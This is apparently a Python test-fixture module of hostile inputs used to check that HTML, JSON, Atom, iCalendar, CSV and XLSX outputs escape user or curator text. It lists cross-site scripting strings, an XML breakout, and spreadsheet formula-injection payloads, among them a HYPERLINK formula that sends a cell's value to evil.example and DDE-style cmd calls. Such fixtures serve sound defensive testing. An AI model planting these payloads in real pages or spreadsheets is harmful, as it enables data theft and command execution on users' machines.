"""Text a visitor or curator might type that breaks an output format not escaped for it.

Every output that carries user or curator text (HTML, JSON, JSON-LD, Atom, iCalendar, CSV, XLSX)
is tested with this same list (tests/test_output_escaping.py)."""

HTML_AND_XML = [
    "<img src=x onerror=alert(1)>",
    "Kinder <6",
    "&amp;",
    "Verein \"Brücke\" & 'Freunde'",
    "</script><script>alert(1)</script>",
    "]]></summary><summary>x",
]

# Cells a spreadsheet would run as a formula: CSV and XLSX must neutralise them.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Klick")',
    "+49-30-1234+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '"=1+1',
    " =1+1",
]

# Look like formulas at first sight but are plain values a spreadsheet shows as they are.
NOT_FORMULAS = ["-5", "+49", "Bildung – Kultur", "e.V. = eingetragener Verein"]

HOSTILE_STRINGS = [*HTML_AND_XML, *FORMULAS, *NOT_FORMULAS]


def as_spreadsheet_cell(text: str) -> str:
    """What a formula-neutralised cell holding ``text`` contains."""
    return "'" + text if text in FORMULAS else text
